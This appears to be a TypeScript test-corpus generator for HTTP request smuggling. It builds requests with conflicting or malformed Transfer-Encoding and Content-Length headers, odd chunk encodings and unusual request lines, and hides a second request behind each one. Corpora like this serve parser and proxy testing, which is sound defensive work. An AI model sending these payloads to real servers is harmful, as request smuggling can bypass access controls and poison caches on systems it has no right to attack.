/** Requests whose end two readers may see at different places, each with a second request hidden behind the first. */

const hidden = 'GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n';

const transferEncodings = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding : chunked',
  ' Transfer-Encoding: chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: \u000bchunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'transfer-encoding: CHUNKED',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked;q=1',
  'Transfer_Encoding: chunked',
  'X: a\nTransfer-Encoding: chunked',
  'X: a\rTransfer-Encoding: chunked',
  'Transfer-Encoding\u0000: chunked',
  'Transfer-Encoding: chunked\u0000',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
];
const lengths = (length: number): string[] => [
  `Content-Length: ${length}`,
  'Content-Length: 0',
  `Content-Length: +${length}`,
  `Content-Length: ${length}, ${length}`,
  `Content-Length: ${length}, 0`,
  `Content-Length: ${length}\r\nContent-Length: 0`,
  `Content-Length: 0\r\nContent-Length: ${length}`,
  `Content-Length: 0x${length.toString(16)}`,
  `Content-Length: -${length}`,
  `Content-Length:${length} `,
  `Content-Length : ${length}`,
  ` Content-Length: ${length}`,
  `Content-Length: 0${length}`,
  `Content-Length: ${length}_0`,
  'Content-Length: ',
];
const chunks = [
  '0\r\n\r\n',
  '0\n\n',
  '0;x\r\n\r\n',
  '00\r\n\r\n',
  '0x0\r\n\r\n',
  '-0\r\n\r\n',
  '0 \r\n\r\n',
  '5\r\nabcde\r\n0\r\n\r\n',
  '5;ext="\r\nabcde\r\n0\r\n\r\n',
  'ffffffffffffffff1\r\n\r\n',
  '1\r\nab\r\n0\r\n\r\n',
  `0;${'e'.repeat(20_000)}\r\n\r\n`,
  '0\r\nX-Trailer: a\r\n\r\n',
];

const request = (headers: readonly string[], body: string, line = 'POST /first HTTP/1.1'): string =>
  `${[line, 'Host: x', ...headers].join('\r\n')}\r\n\r\n${body}`;

/** Each request with the name of its trick. */
export function smugglingCorpus(): { name: string; bytes: Buffer }[] {
  const both = transferEncodings.flatMap((encoding) =>
    ['Content-Length: 4', `Content-Length: ${hidden.length + 5}`].map((length) =>
      request([length, encoding], `0\r\n\r\n${hidden}`),
    ),
  );
  const oddLengths = lengths(hidden.length).map((length) => request([length], hidden));
  const oddChunks = chunks.flatMap((chunk) => [
    request(['Transfer-Encoding: chunked'], chunk + hidden),
    request(['Content-Length: 3', 'Transfer-Encoding: chunked'], chunk + hidden),
  ]);
  const lines = [
    'POST /first HTTP/1.0',
    'POST /first HTTP/1.1 HTTP/1.1',
    'POST  /first HTTP/1.1',
    'POST /first',
    'POST http://y/first HTTP/1.1',
    'POST /first\u0000 HTTP/1.1',
    'POST /first HTTP/2.0',
    'GET /first HTTP/1.1',
  ].map((line) => request([`Content-Length: ${hidden.length}`], hidden, line));
  const hosts = [
    `POST /first HTTP/1.1\r\nHost: x\r\nHost: y\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    `POST /first HTTP/1.1\nHost: x\nContent-Length: ${hidden.length}\n\n${hidden}`,
  ];
  return [...both, ...oddLengths, ...oddChunks, ...lines, ...hosts].map((text, index) => ({
    name: `${index} ${JSON.stringify(text.slice(0, 120))}`,
    bytes: Buffer.from(text, 'latin1'),
  }));
}
